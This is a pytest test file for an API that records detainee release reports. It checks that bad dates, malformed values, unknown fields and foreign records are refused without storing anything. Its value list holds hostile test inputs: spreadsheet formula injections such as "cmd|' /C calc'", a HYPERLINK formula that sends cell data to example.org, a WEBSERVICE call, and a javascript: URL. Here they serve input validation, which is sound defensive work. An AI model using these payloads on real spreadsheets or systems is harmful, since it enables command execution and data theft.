"""Reports that cannot be true, or cannot be used: a clear refusal that points at the place, and nothing stored."""

import json
from datetime import UTC, datetime
from typing import Any

import pytest

from app.vocabulary import CODE_LISTS
from tests.support import GOVERNMENT, Body, World, make_report

NAMELESS: Body = {"detention": {"country": "VE"}, "release": {"released_on": "2026-01-12"}}

LINK = {"url": "https://example.org/list"}
EVIDENCE = "/verification/evidence"

# What the report says → the code and the pointer of the refusal.
DATES: list[tuple[Body, str, str]] = [
    ({"release__released_on": "2026-02-30"}, "invalid_date", "/release/released_on"),
    ({"release__released_on": "2026-13"}, "invalid_date", "/release/released_on"),
    ({"release__released_on": "12/01/2026"}, "invalid_date", "/release/released_on"),
    ({"release__released_on": "2026-1-2"}, "invalid_date", "/release/released_on"),
    ({"release__released_on": "yesterday"}, "invalid_date", "/release/released_on"),
    ({"release__released_on": ""}, "invalid_date", "/release/released_on"),
    ({"release__released_on": "2026-01-12T10:00:00Z"}, "invalid_date", "/release/released_on"),
    ({"release__released_on": "2026-01-12/2026-01-08"}, "invalid_date", "/release/released_on"),
    ({"release__released_on": "../2026-01-08"}, "invalid_date", "/release/released_on"),
    ({"detention__detained_on": "0000-01-01"}, "invalid_date", "/detention/detained_on"),
    ({"detention__transfers": [{"on": "2025-02-31", "facility": "x"}]}, "invalid_date", "/detention/transfers/0/on"),
    ({"release__released_on": "2" * 65}, "string_too_long", "/release/released_on"),
    ({"release__released_on": 20260112}, "string_type", "/release/released_on"),
    ({"release__released_on": "2026-03-03"}, "future_date", "/release/released_on"),
    ({"release__released_on": "2027"}, "future_date", "/release/released_on"),
    ({"release__released_on": None, "release__announced_on": "2026-04"}, "future_date", "/release/announced_on"),
    ({"release__ordered_on": "2026-04"}, "future_date", "/release/ordered_on"),
    ({"release__measures_lifted_on": "2026-04"}, "future_date", "/release/measures_lifted_on"),
    ({"detention__detained_on": "2026-04", "release__released_on": None}, "future_date", "/detention/detained_on"),
    ({"detention__held_on": "2026-04", "release__released_on": None}, "future_date", "/detention/held_on"),
    ({"detention__ended": {"on": "2026-04", "how": "died"}}, "future_date", "/detention/ended/on"),
    ({"detention__transfers": [{"on": "2026-04", "facility": "x"}]}, "future_date", "/detention/transfers/0/on"),
    ({"detainee__birth_date": "2026-04"}, "future_date", "/detainee/birth_date"),
    ({"detainee__died_on": "2026-04"}, "future_date", "/detainee/died_on"),
    ({"detainee__age": 54, "detainee__age_on": "2026-04"}, "future_date", "/detainee/age_on"),
    ({"verification__verified_on": "2026-04"}, "future_date", "/verification/verified_on"),
    ({"verification__evidence": [LINK, {**LINK, "published_on": "2027"}]}, "future_date", EVIDENCE + "/1/published_on"),
    ({"detention__detained_on": "2026-01-13"}, "release_before_detention", "/release/released_on"),
    ({"detention__detained_on": "2026-02"}, "release_before_detention", "/release/released_on"),
    ({"detention__held_on": "2026-01-13"}, "held_after_release", "/release/released_on"),
    ({"detention__ended": {"on": "2024-10-12", "how": "died"}}, "ended_before_detention", "/detention/ended/on"),
    ({"detainee__birth_date": "2025"}, "detained_before_birth", "/detention/detained_on"),
    ({"detainee__died_on": "2024-10-12"}, "detained_after_death", "/detainee/died_on"),
]  # fmt: skip

VALUES: list[tuple[Body, str, str]] = [
    ({"verification__method": None}, "method_required", "/verification/method"),
    ({"detention__country": None}, "country_required", "/detention/country"),
    ({"detention__country": "ve"}, "unknown_country", "/detention/country"),
    ({"detention__country": "XK"}, "unknown_country", "/detention/country"),
    ({"detainee__nationalities": ["VE", "ZZ"]}, "unknown_country", "/detainee/nationalities/1"),
    ({"detainee__nationalities": "VE"}, "list_type", "/detainee/nationalities"),
    ({"detainee__age": 121}, "less_than_equal", "/detainee/age"),
    ({"detainee__age": -1}, "greater_than_equal", "/detainee/age"),
    ({"detainee__age": "54"}, "int_type", "/detainee/age"),
    ({"detainee__age": 54.5}, "int_type", "/detainee/age"),
    ({"detainee__full_name": "   "}, "string_too_short", "/detainee/full_name"),
    ({"detainee__full_name": "x" * 201}, "string_too_long", "/detainee/full_name"),
    ({"detainee__full_name": "Tomás\nQuintana"}, "control_character", "/detainee/full_name"),
    ({"detainee__full_name": "Tomás;=1+cmd|' /C calc'!A0"}, "formula", "/detainee/full_name"),
    ({"detainee__aliases": ["Tomás | +1"]}, "formula", "/detainee/aliases/0"),
    ({"detention__facility": "El Rodeo;@SUM(A1)"}, "formula", "/detention/facility"),
    ({"detention__case": "Q;-1+cmd|' /C calc'!A1"}, "formula", "/detention/case"),
    ({"detention__case": "Q; -cmd|' /C calc'!A1"}, "formula", "/detention/case"),
    ({"detention__case": 'Q;"=1+1&"'}, "formula", "/detention/case"),
    ({"detention__case": "Q|-2+3"}, "formula", "/detention/case"),
    ({"detention__case": "Q;\uff1d1+1"}, "formula", "/detention/case"),
    ({"detention__case": "Q;\u200b=1+1"}, "formula", "/detention/case"),
    ({"detention__case": "Q; - A1"}, "formula", "/detention/case"),
    ({"detention__charges": ["libre; - sin medidas"]}, "formula", "/detention/charges/0"),
    ({"note": "a;=1+1;-2"}, "formula", "/note"),
    ({"note": 'a;-HYPERLINK("https://example.org/?"&A1)'}, "formula", "/note"),
    ({"note": "a; -A1+WEBSERVICE (B1)"}, "formula", "/note"),
    ({"note": "a; -A1+cmd|' /C calc'!A1"}, "formula", "/note"),
    ({"detainee__full_name": ["Tomás"]}, "string_type", "/detainee/full_name"),
    ({"detainee__aliases": [f"alias {n}" for n in range(21)]}, "too_long", "/detainee/aliases"),
    ({"verification__evidence": [{"url": "ftp://example.org/list"}]}, "invalid_url", EVIDENCE + "/0/url"),
    ({"verification__evidence": [{"url": "https://rosa:clave@example.org"}]}, "url_with_password", EVIDENCE + "/0/url"),
    ({"verification__evidence": [{"url": "https:\\\\rosa@example.org/"}]}, "url_with_password", EVIDENCE + "/0/url"),
    ({"verification__evidence": [{"url": "javascript:alert(1)"}]}, "invalid_url", EVIDENCE + "/0/url"),
    ({"verification__evidence": [{}]}, "required", EVIDENCE + "/0/url"),
    ({"verification__evidence": [{**LINK, "sha256": "abc"}]}, "invalid_format", EVIDENCE + "/0/sha256"),
    ({"source_record_id": "x" * 101}, "string_too_long", "/source_record_id"),
    ({"note": "x" * 4001}, "string_too_long", "/note"),
    ({"detainee_id": "17"}, "invalid_id", "/detainee_id"),
    ({"detainee": "Tomás"}, "object_required", "/detainee"),
    ({"release": []}, "object_required", "/release"),
]  # fmt: skip

UNKNOWN_FIELDS: list[tuple[Body, str]] = [
    ({"full_name": "Tomás"}, "/full_name"),
    ({"source": "jep"}, "/source"),
    ({"detainee__name": "Tomás"}, "/detainee/name"),
    ({"release__date": "2026-01-12"}, "/release/date"),
    ({"verification__source": "jep"}, "/verification/source"),
    ({"detention__transfers": [{"facility": "Ramo Verde", "to": "x"}]}, "/detention/transfers/0/to"),
    # The names of places where a framework looks for values, and the two characters that RFC 6901 escapes.
    ({"query": 1}, "/query"),
    ({"body": 1}, "/body"),
    ({"a/b~c": 1}, "/a~1b~0c"),
]

# Field → the list that /v1/vocabulary serves of it.
CODES = {
    "detainee__gender": "genders",
    "detainee__category": "categories",
    "detainee__designation": "designations",
    "detainee__publish": "publish",
    "detention__legal_status": "legal_statuses",
    "release__stage": "stages",
    "release__kind": "release_kinds",
    "verification__verdict": "verdicts",
    "verification__method": "methods",
}


def refused(world: World, subtests: pytest.Subtests, said: Body, status: int, code: str, pointer: str | None) -> None:
    with subtests.test(f"{said} is {code}"), world.storing_nothing():
        world.refuse(world.post("/v1/releases", make_report(**said), "foro"), status, code, pointer)


def test_impossible_and_future_dates_are_refused_where_they_stand(world: World, subtests: pytest.Subtests) -> None:
    for said, code, pointer in DATES:
        refused(world, subtests, said, 422, code, pointer)


def test_a_day_that_has_begun_somewhere_on_earth_is_not_in_the_future(world: World) -> None:
    world.now = datetime(2026, 3, 2, 9, 59, tzinfo=UTC)  # 23:59 at UTC+14
    assert world.post("/v1/releases", make_report(release__released_on="2026-03-03"), "foro").status_code == 422
    world.now = datetime(2026, 3, 2, 10, 0, tzinfo=UTC)
    assert world.post("/v1/releases", make_report(release__released_on="2026-03-03"), "foro").status_code == 201


def test_a_month_or_year_that_is_running_is_not_in_the_future(world: World, subtests: pytest.Subtests) -> None:
    for day in ("2026", "2026-03", "2026-03-01/2026-04"):
        with subtests.test(day):
            report = make_report(release__released_on=day, detainee__full_name=f"Nobody {len(day)}")
            assert world.post("/v1/releases", report, "foro").status_code == 201


def test_dates_that_may_still_agree_are_accepted(world: World) -> None:
    world.file(detention__detained_on="2026-01", detention__held_on="2026", release__released_on="2026-01-12")


def test_values_out_of_shape_are_refused_where_they_stand(world: World, subtests: pytest.Subtests) -> None:
    for said, code, pointer in VALUES:
        refused(world, subtests, said, 422, code, pointer)


def test_unknown_fields_are_refused_and_not_dropped(world: World, subtests: pytest.Subtests) -> None:
    for said, pointer in UNKNOWN_FIELDS:
        refused(world, subtests, said, 422, "unknown_field", pointer)


@pytest.mark.parametrize("field", CODES)
def test_the_refusal_of_an_unknown_code_names_the_allowed_ones(world: World, field: str) -> None:
    pointer = "/" + field.replace("__", "/")
    with world.storing_nothing():
        answer = world.post("/v1/releases", make_report(**{field: "no-such-code"}), "foro")
        problem = world.refuse(answer, 422, "unknown_code", pointer)
    detail = next(error["detail"] for error in problem["errors"] if error["pointer"] == pointer)
    assert all(f"`{code}`" in detail for code in CODE_LISTS[CODES[field]])
    assert "no-such-code" not in answer.text.replace("unknown_code", "")


def test_codes_in_lists_are_checked_one_by_one(world: World, subtests: pytest.Subtests) -> None:
    groups, conditions = ["journalist", "x"], ["travel_ban", "x"]
    refused(world, subtests, {"detainee__groups": groups}, 422, "unknown_code", "/detainee/groups/1")
    refused(world, subtests, {"release__conditions": conditions}, 422, "unknown_code", "/release/conditions/1")
    refused(world, subtests, {"detention__ended": {"how": "x"}}, 422, "unknown_code", "/detention/ended/how")


def test_every_mistake_of_a_body_is_told_at_once(world: World) -> None:
    said = {"release__released_on": "2027", "verification__method": None, "detention__country": None}
    with world.storing_nothing():
        problem = world.refuse(world.post("/v1/releases", make_report(**said), "foro"), 422, "invalid")
    told = {(error["pointer"], error["code"]) for error in problem["errors"]}
    assert told == {
        ("/release/released_on", "future_date"),
        ("/verification/method", "method_required"),
        ("/detention/country", "country_required"),
    }


def test_nobody_without_a_name_and_two_facts_is_a_person(world: World, subtests: pytest.Subtests) -> None:
    facts: list[Body] = [
        {},
        {"detainee": {"age": 72}},
        {"detainee": {"age": 72, "birth_date": "1953"}},  # one fact, said twice
        {"detainee": {"nationalities": ["AR", "IL"]}},
        {"detainee": {"aliases": ["El Profe"], "gender": "male"}},
    ]
    for said in facts:
        with subtests.test(str(said)), world.storing_nothing():
            answer = world.post("/v1/releases", {**NAMELESS, **said}, "foro")
            problem = world.refuse(answer, 422, "file_a_claim", "/detainee")
            assert problem["code"] == "file_a_claim"
            assert "POST /v1/claims" in problem["detail"]


def test_a_tired_hand_is_told_what_to_do_or_understood(world: World, subtests: pytest.Subtests) -> None:
    """A byte order mark and spaces round a date mean nothing; what means something is told in words."""
    marked = b"\xef\xbb\xbf" + json.dumps(make_report(release__released_on=" 2026-01-12 ")).encode()
    headers = world.headers("foro", **{"Content-Type": "application/json"})
    assert world.client.post("/v1/releases", content=marked, headers=headers).json()["release"]["released_on"] == (
        "2026-01-12"
    )
    told: list[tuple[Body, str, str]] = [
        ({"detainee__age": 0}, "/detainee/age", "empty cell"),
        ({"detainee__age": "72"}, "/detainee/age", "without quotes"),
        ({"release__kind": "libertad plena"}, "/release/kind", "/v1/vocabulary"),
        ({"detainee__full_name": "12345678"}, "/detainee/full_name", "no letter"),
        ({"detainee__full_name": "PENDIENTE"}, "/detainee/full_name", "nobody knew"),
    ]
    for said, pointer, words in told:
        with subtests.test(str(said)), world.storing_nothing():
            answer = world.post("/v1/releases", make_report(**said), "foro")
            assert any(words in one["detail"] for one in answer.json()["errors"] if one["pointer"] == pointer)


def test_an_argentine_israeli_of_72_is_a_person_without_a_name(world: World) -> None:
    body = {**NAMELESS, "detainee": {"age": 72, "nationalities": ["AR", "IL"]}}
    assert world.post("/v1/releases", body, "foro").status_code == 201


def test_a_record_cannot_turn_into_another_detention(world: World, subtests: pytest.Subtests) -> None:
    world.file(source_record_id="FP-1")
    again = {"source_record_id": "FP-1", "detention__detained_on": "2026-02-01"}
    later: list[tuple[str, Body]] = [
        ("/v1/detentions", {"release": None}),
        ("/v1/releases", {"release__released_on": None}),
        ("/v1/releases", {"release__released_on": "2026-02-20"}),
    ]
    for path, said in later:
        with subtests.test(f"{path} {said}"), world.storing_nothing():
            answer = world.post(path, make_report(**again, **said), "foro")
            problem = world.refuse(answer, 409, "new_spell_needs_new_record")
            assert "new source_record_id" in problem["detail"]


def test_a_verdict_on_a_release_is_checked_like_a_report(world: World, subtests: pytest.Subtests) -> None:
    release = world.file()["release"]["id"]
    bad: list[tuple[Body, str, str]] = [
        ({}, "required", "/verdict"),
        ({"verdict": "maybe"}, "unknown_code", "/verdict"),
        ({"verdict": "verified"}, "method_required", "/method"),
        ({"verdict": "reported", "released_on": "2027"}, "future_date", "/released_on"),
        ({"verdict": "reported", "verified_on": "2027"}, "future_date", "/verified_on"),
        ({"verdict": "reported", "kind": "freedom"}, "unknown_code", "/kind"),
        ({"verdict": "reported", "note": "x"}, "unknown_field", "/note"),
    ]
    for said, code, pointer in bad:
        with subtests.test(str(said)), world.storing_nothing():
            world.refuse(world.post(f"/v1/releases/{release}/verifications", said, "jep"), 422, code, pointer)


def test_a_report_points_at_one_thing_that_exists(world: World, subtests: pytest.Subtests) -> None:
    filed = world.file()
    detainee, release = filed["detainee"]["id"], filed["release"]["id"]
    stranger = "11111111-2222-4333-8444-555555555555"
    with subtests.test("at two things"), world.storing_nothing():
        body = {"detainee_id": detainee, "release_id": release}
        world.refuse(world.post("/v1/releases", body, "jep"), 422, "one_pointer")
    for name in ("detainee_id", "detention_id", "release_id"):
        with subtests.test(name), world.storing_nothing():
            world.refuse(world.post("/v1/releases", {name: stranger}, "jep"), 404, "not_found")
    with subtests.test("a verdict on nothing"), world.storing_nothing():
        answer = world.post(f"/v1/releases/{stranger}/verifications", {"verdict": "reported"}, "jep")
        world.refuse(answer, 404, "not_found")


def test_a_detention_without_a_release_cannot_be_verified_as_one(world: World) -> None:
    held = world.file_detention()
    assert held["release"] is None
    with world.storing_nothing():
        # The id that a release of this record would have is not known to anyone, and a detention's is another one.
        answer = world.post(f"/v1/releases/{held['detention']['id']}/verifications", {"verdict": "reported"}, "jep")
        world.refuse(answer, 404, "not_found")


def test_a_correction_is_checked_like_a_report(world: World, subtests: pytest.Subtests) -> None:
    filed = world.file(source_record_id="FP-1")
    path = f"/v1/reports/{filed['report']['id']}"
    bad: list[tuple[Any, int, str, str | None]] = [
        ({"release": {"released_on": "2027"}}, 422, "future_date", "/release/released_on"),
        ({"release": {"released_on": "2024-01"}}, 422, "release_before_detention", "/release/released_on"),
        ({"verification": {"method": None}}, 422, "method_required", "/verification/method"),
        ({"detainee": {"name": "x"}}, 422, "unknown_field", "/detainee/name"),
        ({"detainee": "x"}, 422, "object_required", "/detainee"),
        ({"body": 1}, 422, "unknown_field", "/body"),
        ({"detainee_id": filed["detainee"]["id"]}, 422, "pointer_is_fixed", None),
        ({"source_record_id": "FP-2"}, 422, "case_is_fixed", "/source_record_id"),
        ({"source_record_id": None}, 422, "case_is_fixed", "/source_record_id"),
        ([], 422, "object_required", ""),
    ]
    for patch, status, code, pointer in bad:
        with subtests.test(str(patch)), world.storing_nothing():
            answer = world.client.patch(path, json=patch, headers=world.headers("foro"))
            world.refuse(answer, status, code, pointer)


def test_a_foreign_report_is_not_found_whatever_is_done_to_it(world: World, subtests: pytest.Subtests) -> None:
    path = f"/v1/reports/{world.file('foro')['report']['id']}"
    for who in ("jep", GOVERNMENT):
        with subtests.test(who), world.storing_nothing():
            world.refuse(world.get(path, who), 404, "not_found")
            answer = world.client.patch(path, json={"note": "mine now"}, headers=world.headers(who))
            world.refuse(answer, 404, "not_found")
            world.refuse(world.post(f"{path}/retract", {}, who), 404, "not_found")
